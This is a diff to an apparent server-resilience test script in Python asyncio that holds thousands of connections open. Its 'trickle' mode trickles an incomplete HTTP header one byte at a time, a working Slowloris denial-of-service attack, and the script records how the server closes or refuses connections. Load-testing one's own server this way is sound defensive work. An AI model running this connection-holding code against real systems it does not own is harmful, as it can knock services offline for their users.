@@ -35,48 +35,63 @@ class Stats:
         self.peak = 0
 
 
+# The connections are asyncio protocols driven by timers, not stream coroutines polling with
+# timeouts: 5,000 held connections must cost the attacker little CPU, because it shares its
+# core with the wrk that measures the reads (the stream version took ~60% of that core and
+# starved wrk, so the reads measured the load generator, not the server). What the server
+# sees is the same either way.
+class Held(asyncio.Protocol):
+    def __init__(self, kind, every, stats, stop):
+        self.kind, self.every, self.stats, self.stop = kind, every, stats, stop
+        self.transport = None
+        self.timer = None
+        self.n = 0
+        self.lost = asyncio.get_running_loop().create_future()
+
+    def connection_made(self, transport):
+        self.transport = transport
+        self.stats.opened += 1
+        self.stats.held += 1
+        self.stats.peak = max(self.stats.peak, self.stats.held)
+        if self.kind == "trickle":
+            transport.write(b"GET /api/public/ HTTP/1.1\r\n")
+            self.timer = asyncio.get_running_loop().call_later(self.every, self.tick)
+
+    def tick(self):
+        # An unfinished header line, one byte at a time (Slowloris).
+        self.transport.write(b"X-a: b\r\n"[self.n % 8 : self.n % 8 + 1])
+        self.n += 1
+        self.timer = asyncio.get_running_loop().call_later(self.every, self.tick)
+
+    def data_received(self, data):
+        # The server answered (408/400): it is done with this connection.
+        self.transport.close()
+
+    def connection_lost(self, exc):
+        if self.timer:
+            self.timer.cancel()
+        self.stats.held -= 1
+        self.stats.closed_by_server += 0 if self.stop.is_set() else 1
+        if not self.lost.done():
+            self.lost.set_result(None)
+
+
 async def hold(kind, host, port, source, every, stop, stats):
+    loop = asyncio.get_running_loop()
     while not stop.is_set():
         try:
-            reader, writer = await asyncio.wait_for(
-                asyncio.open_connection(host, port, local_addr=(source, 0)), 5
-            )
+            transport, held = await asyncio.wait_for(
+                loop.create_connection(lambda: Held(kind, every, stats, stop), host, port,
+                                       local_addr=(source, 0)), 5)
         except (OSError, asyncio.TimeoutError):
             stats.refused += 1
             await asyncio.sleep(0.5)
             continue
-        stats.opened += 1
-        stats.held += 1
-        stats.peak = max(stats.peak, stats.held)
         try:
-            if kind == "trickle":
-                writer.write(b"GET /api/public/ HTTP/1.1\r\n")
-                await writer.drain()
-                n = 0
-                while not stop.is_set():
-                    # An unfinished header line, one byte at a time; a read that returns
-                    # means the server answered (408/400) or closed.
-                    try:
-                        await asyncio.wait_for(reader.read(1024), every)
-                        break
-                    except asyncio.TimeoutError:
-                        pass
-                    writer.write(b"X-a: b\r\n"[n % 8 : n % 8 + 1])
-                    n += 1
-                    await writer.drain()
-            else:
-                while not stop.is_set():
-                    try:
-                        await asyncio.wait_for(reader.read(1024), 1.0)
-                        break
-                    except asyncio.TimeoutError:
-                        pass
-            stats.closed_by_server += 0 if stop.is_set() else 1
-        except (OSError, asyncio.IncompleteReadError):
-            stats.closed_by_server += 1
-        finally:
-            stats.held -= 1
-            writer.close()
+            await held.lost
+        except asyncio.CancelledError:
+            transport.abort()
+            raise
 
 
 async def main():
@@ -119,6 +134,8 @@ async def main():
         print(f"t={time.monotonic() - t0:.0f}s held={stats.held} opened={stats.opened} "
               f"closed_by_server={stats.closed_by_server} refused={stats.refused}", file=out)
     stop.set()
+    for task in tasks:
+        task.cancel()
     await asyncio.gather(*tasks, return_exceptions=True)
     print(json.dumps({"connections": total, "sources": sources, "peak_held": stats.peak,
                       "opened": stats.opened, "closed_by_server": stats.closed_by_server,
